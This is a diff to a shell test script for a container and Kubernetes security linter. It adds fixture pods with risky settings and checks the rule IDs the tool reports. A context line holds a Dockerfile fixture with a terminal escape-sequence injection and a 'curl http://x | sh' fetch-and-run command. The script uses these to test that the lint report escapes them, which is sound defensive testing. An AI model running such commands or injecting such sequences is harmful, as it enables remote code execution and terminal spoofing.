@@ -97,6 +97,43 @@ printf 'FROM alpine:3.20\nRUN echo "\033]0;pwned\007" && curl http://x | sh\n' >
 t 'a Dockerfile line holding a title-setting sequence' 1 "$bin" lint "$tmp/esc.df"
 if grep -q "$(printf '\033')" "$tmp/out"; then echo "FAIL check: an ESC from a Dockerfile reached the lint report raw"
 else has '... is shown escaped in the source line' "$tmp/out" '\\x1b\]0;pwned\\x07'; fi
+# Kubernetes checks the peers have: requests (a limit is the request too),
+# volume types outside PSS restricted, hostUsers, hostAliases, Secrets in env
+cat > "$tmp/k8s-more.yaml" <<'Y'
+apiVersion: v1
+kind: Pod
+metadata: {name: p}
+spec:
+  hostUsers: true
+  hostAliases:
+  - ip: 10.0.0.1
+    hostnames: [api.internal]
+  volumes:
+  - name: v
+    nfs: {server: x, path: /}
+  - name: ok
+    emptyDir: {}
+  containers:
+  - name: c
+    image: busybox:1.36
+    resources: {limits: {memory: 64Mi}}
+    env:
+    - name: PW
+      valueFrom: {secretKeyRef: {name: s, key: pw}}
+    envFrom:
+    - secretRef: {name: all}
+Y
+t 'a pod with hostUsers, hostAliases, an nfs volume and Secrets in env' 1 "$bin" check --format json "$tmp/k8s-more.yaml"
+json_ok '... gets each finding where it is written' 'import json,sys
+d=json.load(sys.stdin); hits={(x["line"], x["rule"]) for x in d["findings"]}
+want={(5,"CT-HOST-USERNS"),(7,"CT-HOST-ALIASES"),(10,"CT-VOLUME-TYPE"),(15,"CT-NO-CPU-REQUEST"),(20,"CT-ENV-SECRET-REF"),(22,"CT-ENV-SECRET-REF")}
+assert want <= hits, want - hits
+assert not any(r=="CT-NO-MEMORY-REQUEST" for _, r in hits), "a memory limit is the request"'
+printf 'apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  hostUsers: false\n  containers:\n  - name: c\n    image: busybox:1.36\n    resources: {requests: {cpu: 100m, memory: 64Mi}}\n' > "$tmp/k8s-userns.yaml"
+t 'a pod with its own user namespace and requests' 1 "$bin" check --format json "$tmp/k8s-userns.yaml"
+json_ok '... has none of those findings' 'import json,sys
+d=json.load(sys.stdin); r={x["rule"] for x in d["findings"]}
+assert not r & {"CT-HOST-USERNS","CT-NO-CPU-REQUEST","CT-NO-MEMORY-REQUEST","CT-VOLUME-TYPE","CT-HOST-ALIASES","CT-ENV-SECRET-REF"}, r'
 # only commands a shell runs count: not comments, echo strings, heredoc text,
 # prose; in Makefiles the recipes, in Jenkinsfiles the sh steps, in CI YAML
 # the keys that hold commands
